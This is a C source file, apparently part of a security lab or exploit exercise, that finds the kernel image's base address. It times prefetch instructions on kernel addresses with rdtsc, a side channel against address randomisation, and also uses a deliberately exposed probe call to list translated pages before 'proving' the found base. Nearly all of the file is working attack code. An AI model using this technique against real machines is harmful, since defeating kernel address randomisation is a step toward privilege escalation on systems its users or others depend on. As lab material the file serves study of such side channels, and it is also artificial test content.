/* Finds the kernel's image by which addresses user mode's root translates. */
#include <errno.h>
#include <stdlib.h>

#include "attack.h"

#define IMAGE_LOWEST 0xffffffff80000000UL
#define ENTRY_AREA 0xffffe00000000000UL    /* always translated */
#define NOTHING_THERE 0xffff800000000000UL /* never */

enum { NR_SAMPLES = 1001, SHOWN_MAX = 8 };

/* ---- Timing ---- */

static uint64_t time_prefetch(uint64_t address)
{
	uint32_t low, high, low_after, high_after;

	__asm__ volatile("mfence; rdtsc; lfence" : "=a"(low), "=d"(high) : : "memory");
	__asm__ volatile("prefetcht0 (%0); prefetchnta (%0); mfence" : : "r"(address) : "memory");
	__asm__ volatile("rdtsc; lfence" : "=a"(low_after), "=d"(high_after) : : "memory");
	return ((uint64_t)high_after << 32 | low_after) - ((uint64_t)high << 32 | low);
}

static int compare(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;

	return (x > y) - (x < y);
}

static uint64_t median_prefetch(uint64_t address)
{
	static uint64_t samples[NR_SAMPLES];

	for (int i = 0; i < NR_SAMPLES; i++) {
		samples[i] = time_prefetch(address);
	}
	qsort(samples, NR_SAMPLES, sizeof(samples[0]), compare);
	return samples[NR_SAMPLES / 2];
}

/* Says whether prefetches tell what is translated; it takes a processor for that. */
static void try_timing(void)
{
	uint64_t there = median_prefetch(ENTRY_AREA), nowhere = median_prefetch(NOTHING_THERE);
	uint64_t difference = there > nowhere ? there - nowhere : nowhere - there;

	if (difference * 4 < there + nowhere) {
		attack_say("timing: SKIP, a prefetch takes %lu ticks where something is, %lu where "
			   "nothing is",
			   there, nowhere);
	} else {
		attack_say("timing: a prefetch takes %lu ticks where something is, %lu where "
			   "nothing is: page by page that tells what follows",
			   there, nowhere);
	}
}

/* ---- The same without a clock ---- */

/* The first address from here on that is translated; 0: none. */
static uint64_t probe(uint64_t address)
{
	uint64_t found = 0;
	long status = bw_vuln_probe(address, &found);

	attack_check("vuln_probe", status);
	return status == 0 ? found : 0;
}

/* The first page of each of the first few runs of 2 MiB. */
static void show(void)
{
	uint64_t address = probe(0);

	for (int i = 0; address != 0 && i < SHOWN_MAX; i++) {
		attack_say("translated: 0x%lx", address);
		address = (address | (BW_HUGE_PAGE_SIZE - 1)) + 1;
		address = address != 0 ? probe(address) : 0;
	}
}

int main(void)
{
	uint64_t image;

	try_timing();
	show();
	image = probe(IMAGE_LOWEST);
	if (image == 0) {
		attack_say("nothing where the image may lie");
		return attack_finish();
	}
	attack_say("the kernel's image begins at 0x%lx", image);
	attack_check("base_prove", bw_base_prove(image));
	return attack_finish();
}
